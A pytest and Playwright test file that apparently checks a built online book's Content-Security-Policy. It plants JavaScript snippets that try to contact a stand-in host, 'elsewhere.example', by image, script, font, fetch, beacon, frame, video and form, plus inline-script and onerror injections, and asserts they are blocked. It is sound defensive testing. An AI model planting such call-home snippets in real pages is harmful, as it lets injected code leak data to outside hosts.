"""No page asks another host for anything, and the Content-Security-Policy would not let it."""

import functools
import http.server
import re
import threading
import urllib.parse

import pytest

from .conftest import HTML, unavailable, until

# One page of each kind: they differ in the scripts they hold
FIELD = "03-momentum"  # a page on which readers write code
KINDS = [
    "index",
    FIELD,
    "06-comparison",
    "09-batchnorm",
    "search",
    "genindex",
    "api/network",
    "_source/optimizers",
]
ELSEWHERE = "https://elsewhere.example"
WATCH = """
  window.refused = [];
  document.addEventListener("securitypolicyviolation", (event) => window.refused.push(event.blockedURI));
"""
# Each way in which something planted on a page could call home.
PLANTED = {
    "an image": "document.body.append(Object.assign(new Image(), { src: HOST + '/a.png' }))",
    "a style sheet": "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: HOST + '/a.css' }))",
    "a script": "document.head.append(Object.assign(document.createElement('script'), { src: HOST + '/a.js' }))",
    "a font": "new FontFace('elsewhere', `url(${HOST}/a.woff2)`).load().catch(() => 0)",
    "a fetch": "fetch(HOST + '/a.json').catch(() => 0)",
    "a beacon": "navigator.sendBeacon(HOST + '/a', 'text')",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: HOST + '/a.html' }))",
    "a video": "document.body.append(Object.assign(document.createElement('video'), { src: HOST + '/a.mp4' }))",
    "a form": "document.body.append(Object.assign(document.createElement('form'), { action: HOST + '/a' })); document.forms[document.forms.length - 1].submit()",
}


class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def server():
    """The book on a web server, not at the root: ``http://127.0.0.1:…/some/where/``."""

    class Below(Quiet):
        def translate_path(self, path):
            return super().translate_path(path.removeprefix("/some/where"))

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Below, directory=HTML))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/some/where/"
    server.shutdown()
    server.server_close()


@pytest.fixture
def watched(browser):
    """A page that notes what it is refused (``window.refused``), what it reports and where it asks."""
    if not HTML.is_dir():
        unavailable(f"{HTML} is not there: make html builds it")
    page = browser.new_page()
    page.set_default_timeout(10000)
    page.reported, page.asked = [], []
    page.add_init_script(WATCH)
    page.on("console", lambda m: page.reported.append(m.text) if m.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: page.reported.append(str(error)))
    page.route(
        re.compile(re.escape(ELSEWHERE)), lambda route: (page.asked.append(route.request.url), route.abort())
    )
    yield page
    page.close()


def address(name, where):
    return f"{where}{name}.html" if where else (HTML / f"{name}.html").as_uri()


@pytest.mark.parametrize("name", KINDS)
def test_nothing_a_page_needs_is_refused_or_comes_from_elsewhere(watched, server, name):
    """From a server; from the folder, ``test_book.py`` opens every page (a refusal is an error on the console)."""
    requests = []
    watched.on("request", lambda request: requests.append(request.url))
    watched.goto(address(name, server))
    until(
        watched, "() => !document.querySelector('script[src*=tex-svg]') || !!window.MathJax?.startup?.promise"
    )
    watched.evaluate("() => window.MathJax?.startup?.promise.then(() => 0)")
    assert watched.evaluate("window.refused") == []
    assert watched.reported == []
    assert [url for url in requests if not url.startswith((server, "data:"))] == []


@pytest.mark.parametrize("scheme", ["file", "http"])
@pytest.mark.parametrize("what", PLANTED)
def test_what_is_planted_on_a_page_cannot_call_home(watched, server, what, scheme):
    watched.goto(address("index", server if scheme == "http" else ""))
    watched.evaluate(PLANTED[what].replace("HOST", f"'{ELSEWHERE}'"))
    until(watched, "window.refused.length > 0")
    assert watched.asked == []


FRAME = "document.body.append(Object.assign(document.createElement('iframe'), { src: '_static/write/frame.html' }))"


@pytest.mark.parametrize("scheme", ["file", "http"])
def test_a_page_with_a_field_may_hold_a_frame_of_the_book(watched, server, scheme):
    frames = []
    watched.on("request", lambda request: frames.append(request.url) if "frame.html" in request.url else None)
    watched.goto(address(FIELD, server if scheme == "http" else ""))
    watched.evaluate(FRAME)
    watched.wait_for_timeout(200)
    assert len(frames) == 1
    assert watched.evaluate("window.refused") == []
    watched.goto(address("index", server if scheme == "http" else ""))
    watched.evaluate(FRAME)
    until(watched, "window.refused.length > 0")  # no other page may


@pytest.mark.parametrize("scheme", ["file", "http"])
@pytest.mark.parametrize("what", ["a frame", "a script", "a fetch"])
def test_what_is_planted_on_a_page_with_a_field_cannot_call_home(watched, server, what, scheme):
    watched.goto(address(FIELD, server if scheme == "http" else ""))
    watched.evaluate(PLANTED[what].replace("HOST", f"'{ELSEWHERE}'"))
    until(watched, "window.refused.length > 0")
    assert watched.asked == []


@pytest.mark.parametrize("what", sorted(set(PLANTED) - {"a beacon"}))  # Playwright does not see beacons
def test_without_the_policy_it_would(watched, server, what, tmp_path):
    """The test above can fail."""
    text = (HTML / "index.html").read_text(encoding="utf-8")
    bare, count = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text)
    assert count == 1
    watched.route("**/bare.html", lambda route: route.fulfill(body=bare, content_type="text/html"))
    watched.goto(f"{server}bare.html")
    watched.evaluate(PLANTED[what].replace("HOST", f"'{ELSEWHERE}'"))
    watched.wait_for_timeout(300)
    assert watched.asked
    assert urllib.parse.urlsplit(watched.asked[0]).netloc == "elsewhere.example"


def test_a_planted_inline_script_does_not_run(watched):
    watched.goto(address("index", ""))
    watched.evaluate(
        """() => {
          document.body.append(Object.assign(document.createElement("script"), { textContent: "window.planted = 1" }));
          document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.planted = 2">');
        }"""
    )
    until(watched, "window.refused.length >= 2")
    assert watched.evaluate("window.planted") is None
